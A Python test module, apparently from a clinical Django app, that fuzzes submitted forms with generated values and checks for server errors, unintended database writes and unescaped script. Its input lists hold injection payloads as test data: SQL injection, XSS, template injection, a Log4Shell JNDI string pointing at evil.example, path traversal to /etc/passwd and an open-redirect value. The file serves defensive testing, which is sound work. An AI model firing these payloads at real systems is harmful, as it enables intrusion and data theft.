"""Hostile input, property-based: a harness that POSTs generated values to a form's URL.

For each form a patient or clinician can submit, `check_form(spec, client, cast)` lets
hypothesis generate values (plausible ones from `hypothesis.extra.django.from_form`, mixed
with numbers around every boundary, unicode, control characters, NUL bytes, SQL and HTML
fragments, empty and very long strings), POSTs them through the Django test client as the
spec's user, and asserts:

- the answer is never a 5xx (the test client re-raises any exception a view lets escape);
- when the input is refused (4xx, or the form re-rendered with errors) the tables of the
  models the form could write are unchanged: the same rows, every column the same;
- a script fragment is never echoed back unescaped.

Each example runs in its own savepoint, rolled back afterwards, so examples do not see each
other's rows. Examples per form: 1,000 in CI (CI=true), 100 locally, 5,000 with
`make test-deep` (HOSTILE_EXAMPLES sets any number).

Each example is a real request through the whole middleware stack and the real view, which
renders the refused page again: that is nearly all of its cost (SECURITY.md, "Cost,
measured"). The harness keeps its own share small: the "unchanged" check is one SQL statement
(`table_snapshot`), templates render without the test runner's instrumentation
(`plain_template_rendering`), and one request before the examples lets the session settle, so
that no example rewrites it.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field

from django import forms
from django.apps import apps
from django.core import mail
from django.db import connection, transaction
from django.template.base import Template
from django.test.utils import _TestState
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument, ResolutionFailed
from hypothesis.extra.django import from_field

from tests import figures
from tests.security.reauth import mark_reauthenticated

IN_CI = os.environ.get("CI") == "true"
EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", 1000 if IN_CI else 100))

settings.register_profile(
    "hostile",
    max_examples=EXAMPLES,
    deadline=None,
    # CI replays the same examples every run (a red build is reproducible); locally each run
    # explores new ones.
    derandomize=IN_CI,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# --- Strategies ------------------------------------------------------------------------------

BOUNDARY_NUMBERS = [
    "0",
    "0.0",
    "0.99",
    "1",
    "1.0",
    "1.00",
    "1.001",
    "1,5",
    "1.5",
    "4.5",
    "4.99",
    "5",
    "5.00",
    "5.01",
    "-1",
    "-0",
    "+1",
    "1e3",
    "1E-2",
    "0x10",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "1" * 60,
    "9" * 60 + ".99",
    "0." + "0" * 59 + "1",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "٣",  # Arabic-Indic three
    "\uff11.\uff15",  # full-width digits 1.5
    " 1.5 ",
    "1.5mg",
    "1.5.5",
    ".5",
    "5.",
    "10",
    "11",
    "100",
    "1000",
]

FRAGMENTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "\t",
    "\x1b[31m",
    "\u202e",
    "\ufeff",
    "\ud7ff",
    "😴💊",
    "Zoë O'Brien-Łukasz",
    "' OR '1'='1",
    "1; DROP TABLE patients_nightlyentry; --",
    '" UNION SELECT password FROM accounts_user --',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "%(password)s",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "null",
    "None",
    "true",
    "[]",
    "{}",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "9999-12-31",
    "24:00",
    "25:61",
    "-1:00",
    "Europe/Nowhere",
    "UTC",
    "a" * 255,
    "a" * 10_000,
    "x@" + "a" * 250 + ".example",
]

SCRIPT_PROBE = "<script>alert(1)</script>"


def hostile_strings():
    """One hostile value for a text input (kept cheap to draw: examples are many)."""
    return st.one_of(
        st.sampled_from(BOUNDARY_NUMBERS),
        st.sampled_from(FRAGMENTS),
        st.text(max_size=30),  # any unicode, control characters and NUL included
        st.integers(min_value=-(10**30), max_value=10**30).map(str),
    )


# Keys a form does not have, in case a view reads more of request.POST than its form.
UNKNOWN_KEYS = [
    {},
    {"id": "1"},
    {"pk": "-1"},
    {"patient": "1", "patient_id": "1"},
    {"user": "1", "role": "admin"},
    {"next": "https://evil.example/"},
    {"__proto__": "{}"},
]


MISSING = object()


def _plausible(form_class, form_kwargs):
    """Per-field strategies for plausible values, from hypothesis's Django support."""

    # Forms whose constructor needs context (the night's window, the patient) are read from
    # their declared fields unless the spec gives the keyword arguments.
    fields = form_class(**form_kwargs).fields if form_kwargs else form_class.base_fields
    result = {}
    for name, form_field in fields.items():
        if form_field.disabled or isinstance(form_field, forms.MultiValueField):
            continue
        if isinstance(form_field, forms.ChoiceField):
            # Choices may depend on form kwargs (the inviter's roles, the patient's scales).
            values = [str(v) for v, _ in form_field.choices if not isinstance(_, list | tuple)]
            if values:
                strategy = st.sampled_from(values)
                if isinstance(form_field, forms.MultipleChoiceField):
                    strategy = st.lists(strategy, unique=True, max_size=len(values))
                result[name] = strategy
                continue
        try:
            result[name] = from_field(form_field).map(_as_post_value)
        except (InvalidArgument, ResolutionFailed, TypeError):
            result[name] = hostile_strings()
    return result


def _as_post_value(value):
    if isinstance(value, list | tuple | set):
        return [_as_post_value(v) for v in value]
    if isinstance(value, bool):
        return "on" if value else ""
    return "" if value is None else str(value)


def form_data(form_class=None, form_kwargs=None, extra=None):
    """A strategy for one POST body: each field plausible, hostile or missing."""
    plausible = _plausible(form_class, form_kwargs or {}) if form_class else {}
    plausible.update(extra or {})
    per_field = {
        name: st.one_of(strategy, hostile_strings(), st.just(MISSING))
        for name, strategy in plausible.items()
    }
    return st.builds(
        lambda fields, more: {**more, **{k: v for k, v in fields.items() if v is not MISSING}},
        st.fixed_dictionaries(per_field),
        st.sampled_from(UNKNOWN_KEYS),
    )


# --- The harness --------------------------------------------------------------------------


@dataclass
class HostileForm:
    """One form someone can submit: where it posts, who posts it, what it may write."""

    name: str
    role: str  # a role of tests.security.access_rules.Cast: "patient_a", "clinician_a", ...
    url: Callable  # cast -> URL
    models: tuple[str, ...]  # "app_label.Model" whose rows a refused POST must leave alone
    form_class: type | None = None
    form_kwargs: Callable = lambda cast: {}
    extra: Callable = lambda cast: {}  # cast -> {POST key: strategy}: plausible values, more keys
    setup: Callable | None = None  # cast -> None, once before the examples
    json_body: bool = False  # POST the data as a JSON document instead of a form
    headers: dict = field(default_factory=dict)  # e.g. the phone's replay header
    method: str = "post"  # "get" for filter forms: then nothing may ever be written


def table_snapshot(model_labels, *, digest=None):
    """A function that returns the contents of the models' tables, to compare before and after.

    Runs after every refused example, so it is kept cheap: on PostgreSQL (`digest`) one
    statement, the row count and an MD5 of every row's full text (all columns) per table, in
    primary-key order; elsewhere every row of each table through one raw cursor. Either way any
    insert, delete or changed value in those tables changes the snapshot. (An ORM `.values()`
    query per model cost about 8 times as much as the PostgreSQL statement.)
    """
    quote = connection.ops.quote_name
    tables = []
    for label in model_labels:
        # A (label, condition) pair watches only the rows the SQL condition on ``t`` keeps:
        # the access log's writes, not the read a refused form's page records when it shows
        # patients again (DESIGN.md §4: every read is logged).
        label, where = label if isinstance(label, tuple) else (label, "TRUE")
        meta = apps.get_model(label)._meta
        tables.append((quote(meta.db_table), quote(meta.pk.column), where))
    if digest is None:
        digest = connection.vendor == "postgresql"
    if digest:
        sql = "SELECT " + ", ".join(
            f"(SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, E'\\n' "
            f"ORDER BY t.{pk})), '') FROM {table} t WHERE {where})"
            for table, pk, where in tables
        )

        def snapshot():
            with connection.cursor() as cursor:
                cursor.execute(sql)
                return cursor.fetchone()

        return snapshot
    statements = [
        f"SELECT * FROM {table} t WHERE {where} ORDER BY {pk}" for table, pk, where in tables
    ]

    def snapshot():
        with connection.cursor() as cursor:
            rows = []
            for statement in statements:
                cursor.execute(statement)
                rows.append(cursor.fetchall())
            return rows

    return snapshot


# How a page shows a refusal: field errors, the form's error box, or an error message.
REFUSAL_MARKERS = ('class="errorlist', 'role="alert"', 'class="message error"')


def refused(response):
    if response.status_code >= 400:
        return True
    if response.status_code != 200:
        return False
    body = response.content.decode(errors="replace")
    return any(marker in body for marker in REFUSAL_MARKERS)


@contextmanager
def plain_template_rendering():
    """Render templates without the test runner's instrumentation (a signal and a context
    copy per template: a third of the cost of a form page with many widgets)."""

    saved = getattr(getattr(_TestState, "saved_data", None), "template_render", None)
    if saved is None:
        yield
        return
    instrumented, Template._render = Template._render, saved
    try:
        yield
    finally:
        Template._render = instrumented


def check_form(spec: HostileForm, client, cast):
    """Run the property for one form; returns the number of examples tried."""

    user = cast.user_for(spec.role)
    if user is not None:
        client.force_login(user)
        mark_reauthenticated(client, user)  # holds ask for the password again
    if spec.setup:
        spec.setup(cast)
    url = spec.url(cast)
    kwargs = spec.form_kwargs(cast)
    # One request first, kept: the session settles as it does for someone already using the
    # site (a staff session's idle clock is written at most once a minute). Otherwise each
    # example, rolled back, would write it again.
    assert client.get(url).status_code < 500
    tried = 0
    # Every example is rolled back, so the tables before each one are these.
    snapshot = table_snapshot(spec.models)
    before = snapshot()

    @settings(settings.get_profile("hostile"))
    @given(data=form_data(spec.form_class, kwargs, spec.extra(cast)))
    def property_(data):
        nonlocal tried
        tried += 1
        mail.outbox = []
        cookies = copy.deepcopy(client.cookies)
        with transaction.atomic():
            if spec.method == "get":
                response = client.get(url, data)
            elif spec.json_body:
                response = client.post(url, json.dumps(data), content_type="application/json")
            else:
                response = client.post(url, data, **spec.headers)
            assert response.status_code < 500, f"{response.status_code} for {data!r}"
            if spec.method == "get" or refused(response):
                assert snapshot() == before, f"refused but stored: {data!r}"
            raw = b"".join(response.streaming_content) if response.streaming else response.content
            body = raw.decode(errors="replace")
            assert SCRIPT_PROBE not in body, f"script echoed unescaped for {data!r}"
            transaction.set_rollback(True)
        # A POST that signs someone in or out rotates the session, whose row was rolled back.
        client.cookies = cookies

    with plain_template_rendering():
        property_()
    figures.add("hostile input (examples per form)", spec.name, tried)
    return tried
